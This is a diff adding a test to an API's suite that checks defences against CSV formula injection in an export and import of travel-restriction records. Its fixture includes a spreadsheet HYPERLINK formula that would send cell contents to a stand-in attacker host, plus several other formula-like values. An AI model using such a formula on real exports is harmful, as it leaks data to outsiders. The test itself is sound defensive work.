@@ -100,6 +100,36 @@ test('a permit outside the restriction period is refused naming the field', asyn
   assert.equal(inverted.status, 422);
 });
 
+// OWASP "CSV injection": a restriction typed with a formula in its text
+// opens in Excel or LibreOffice as text (a single quote before the cell),
+// numbers stay numbers, and the quote does not come back on import.
+test('CSV export: cells a spreadsheet would run as formulas start with a quote; the import takes it off', async () => {
+  const court = '=HYPERLINK("http://evil.example/?x="&A2,"ver")';
+  const c = await sec.post('/api/v1/restrictions', restriction({
+    court, case_number: '=1+1', document_reference: '-5',
+    subject: { given_names: '@SUM(1+1)', surnames: '+Cmd Prueba', birth_date: '1970-01-01', sex: 'M', nationality: 'SLV' },
+  }));
+  assert.equal(c.status, 201, JSON.stringify(c.json));
+  const e = await sup.get('/api/v1/restrictions/export');
+  assert.equal(e.status, 200);
+  const [head, row] = [e.text.split('\r\n')[0], e.text.split('\r\n').find((l) => l.startsWith(`${c.json.id},`))];
+  assert.equal(row, `${c.json.id},active,"'=HYPERLINK(""http://evil.example/?x=""&A2,""ver"")",'=1+1,exit_ban,'@SUM(1+1),'+Cmd Prueba,1970-01-01,M,SLV,,,,2026-01-01,,-5`);
+  // the same row imported again: the values as typed, without the quotes
+  const im = await sec.req('POST', '/api/v1/restrictions/import', `${head}\r\n${row}\r\n`, { 'content-type': 'text/csv' });
+  assert.equal(im.status, 201, JSON.stringify(im.json));
+  assert.equal(im.json.accepted, 1, JSON.stringify(im.json));
+  const both = (await sup.get(`/api/v1/restrictions?case_number=${encodeURIComponent('=1+1')}`)).json.items;
+  assert.equal(both.length, 2, JSON.stringify(both));
+  for (const r of both) {
+    const g = (await sup.get(`/api/v1/restrictions/${r.id}`)).json;
+    assert.equal(g.court, court);
+    assert.equal(g.case_number, '=1+1');
+    assert.equal(g.subject.given_names, '@SUM(1+1)');
+    assert.equal(g.subject.surnames, '+Cmd Prueba');
+    assert.equal(g.document_reference, '-5');
+  }
+});
+
 test('bad restriction input gets 4xx naming the field', async () => {
   const cases = [
     [{ subject: {} }, 422, 'subject'],
